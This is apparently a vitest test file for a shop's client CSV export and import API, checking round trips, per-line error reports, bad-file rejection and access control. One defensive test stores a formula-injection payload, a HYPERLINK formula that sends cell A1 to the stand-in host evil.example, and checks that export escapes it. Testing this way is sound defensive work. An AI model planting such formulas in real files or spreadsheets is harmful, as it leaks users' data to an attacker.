import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { clientIdOf } from '../../schema/entities/client';
import type { OfficeRecord } from '../../schema/shared/record';
import { call, demoPhones, signIn, startTestShop } from '../testing/test-shop';

type Imported = { created: number; updated: number; unchanged: number; errors: { line: number; error: string }[] };
const cyrillic = /[а-яё]/i;

const header = 'phone,name,otherPhones,email,birthday,source,alert,note,dates';

describe('the clients’ CSV: out, back in, and bad files', () => {
  let one: Awaited<ReturnType<typeof startTestShop>>;
  let two: Awaited<ReturnType<typeof startTestShop>>;
  let admin1: string;
  let admin2: string;
  const cards = async (shop: typeof one) => JSON.stringify((await shop.shop.storage.db('admin').allDocs({ include_docs: true })).rows.map((r) => r.id));

  beforeAll(async () => {
    [one, two] = await Promise.all([startTestShop(), startTestShop()]);
    [admin1, admin2] = await Promise.all([signIn(one.url, demoPhones.admin), signIn(two.url, demoPhones.admin)]);
  });
  afterAll(() => Promise.all([one.close(), two.close()]));

  it('an export read into another shop gives the same clients, and read again changes nothing', async () => {
    await call(one.url, '/api/clients/update', { data: { name: 'Анна, "Цветочная"', phone: '79002000001', otherPhones: '89002000002', email: 'a@example.ru', birthday: '1990-03-08', source: 'social', alert: 'аллергия на лилии', note: 'строка 1\nстрока 2', dates: [{ kind: 'anniversary', title: 'Годовщина свадьбы', date: '06-15', recipient: 'Ольга', recipientPhone: '79002000003', address: 'Тверская, 1; кв. 5' }] } }, admin1);
    await call(one.url, '/api/clients/update', { data: { name: 'Борис', phone: '79002000004' } }, admin1);
    const out = await call<{ csv: string; count: number }>(one.url, '/api/clients/export', {}, admin1);
    expect(out.status).toBe(200);
    expect(out.body.count).toBe(2);
    const read = await call<Imported>(two.url, '/api/clients/import', { csv: out.body.csv }, admin2);
    expect(read.body).toEqual({ created: 2, updated: 0, unchanged: 0, errors: [] });
    const back = await call<{ csv: string }>(two.url, '/api/clients/export', {}, admin2);
    expect(back.body.csv).toBe(out.body.csv);
    expect((await call<Imported>(two.url, '/api/clients/import', { csv: out.body.csv }, admin2)).body).toMatchObject({ created: 0, updated: 0, unchanged: 2 });
  });

  it('writes a formula-looking cell as text (OWASP) and reads it back exact: same cards, no duplicates', async () => {
    const evil = {
      name: '=HYPERLINK("http://evil.example/?"&A1;"Открыть")',
      phone: '79002000301',
      alert: '@SUM(A1)',
      note: '-5% скидка',
    };
    const phoneLike = { name: '+7 (916) 555-44-33', phone: '79002000302', note: '\t+7 916 555-44-33\r\n-1500' };
    const plain = { name: '-1500', phone: '79002000303', note: '-1500' };
    for (const data of [evil, phoneLike, plain]) expect((await call(one.url, '/api/clients/update', { data }, admin1)).status).toBe(200);
    const card = async (shop: typeof one, cookie: string, phone: string) =>
      (await call<{ data: OfficeRecord }>(shop.url, '/api/clients/get', { id: clientIdOf(phone) }, cookie)).body.data.data;
    const before = await Promise.all([evil, phoneLike, plain].map((c) => card(one, admin1, c.phone)));

    const out = await call<{ csv: string }>(one.url, '/api/clients/export', {}, admin1);
    const rows = out.body.csv.split('\r\n');
    expect(rows).toContain(`79002000301,"'=HYPERLINK(""http://evil.example/?""&A1;""Открыть"")",,,,other,"'@SUM(A1)","'-5% скидка",`);
    expect(out.body.csv).toContain(`79002000302,"'+7 (916) 555-44-33",,,,other,,"'\t+7 916 555-44-33\r\n-1500",`);
    // A cell that is wholly a number stays a number.
    expect(rows).toContain('79002000303,-1500,,,,other,,-1500,');

    // Read back into the same shop: nothing new, nothing changed.
    expect((await call<Imported>(one.url, '/api/clients/import', { csv: out.body.csv }, admin1)).body).toMatchObject({ created: 0, updated: 0, errors: [] });
    // And into another: the same cards, byte for byte.
    const fresh = await startTestShop();
    try {
      const admin = await signIn(fresh.url, demoPhones.admin);
      expect((await call<Imported>(fresh.url, '/api/clients/import', { csv: out.body.csv }, admin)).body).toMatchObject({ errors: [] });
      const after = await Promise.all([evil, phoneLike, plain].map((c) => card(fresh, admin, c.phone)));
      expect(after).toEqual(before);
      expect((await call<{ csv: string }>(fresh.url, '/api/clients/export', {}, admin)).body.csv).toBe(out.body.csv);
    } finally {
      await fresh.close();
    }
  });

  it('reports each bad row with its line and stores the rest, or nothing when asked', async () => {
    const csv = [
      header,
      '79002000101,Верная,,,,,,,',
      '12345,Плохой телефон,,,,,,,',
      '79002000102,Плохой день рождения,,,1990-02-30,,,,',
      '79002000103,"Многострочная',
      'заметка",,,,,,,',
      '79002000101,Повтор,,,,,,,',
      '79002000104,Плохой источник,,,,космос,,,',
    ].join('\n');
    const before = await cards(one);
    const strict = await call<{ error: string; issues: { path: string }[] }>(one.url, '/api/clients/import', { csv, allOrNothing: true }, admin1);
    expect(strict.status).toBe(400);
    expect(strict.body.error).toMatch(cyrillic);
    expect(strict.body.issues.map((i) => i.path)).toEqual(['строка 3', 'строка 4', 'строка 7', 'строка 8']);
    expect(await cards(one)).toBe(before);

    const loose = await call<Imported>(one.url, '/api/clients/import', { csv }, admin1);
    expect(loose.status).toBe(200);
    expect(loose.body).toMatchObject({ created: 2 });
    expect(loose.body.errors.map((e) => e.line)).toEqual([3, 4, 7, 8]);
    for (const e of loose.body.errors) expect(e.error).toMatch(cyrillic);
  });

  it('refuses a file that is not CSV, a 50 MB file and a florist, in Russian', async () => {
    const before = await cards(one);
    for (const csv of ['\u0000PNG binary', 'name;age\nАнна;30', '"never closed']) {
      const answer = await call<{ error: string }>(one.url, '/api/clients/import', { csv }, admin1);
      expect(answer.status, csv).toBe(400);
      expect(answer.body.error).toMatch(cyrillic);
    }
    const huge = await call<{ error: string }>(one.url, '/api/clients/import', { csv: `${header}\n${'x'.repeat(50 * 1024 * 1024)}` }, admin1);
    expect(huge.status).toBe(413);
    expect(huge.body.error).toMatch(cyrillic);
    const florist = await signIn(one.url, demoPhones.florist);
    expect((await call(one.url, '/api/clients/import', { csv: `${header}\n79002000201,Ф,,,,,,,` }, florist)).status).toBe(403);
    expect((await call(one.url, '/api/clients/export', {}, florist)).status).toBe(403);
    expect(await cards(one)).toBe(before);
  });
});
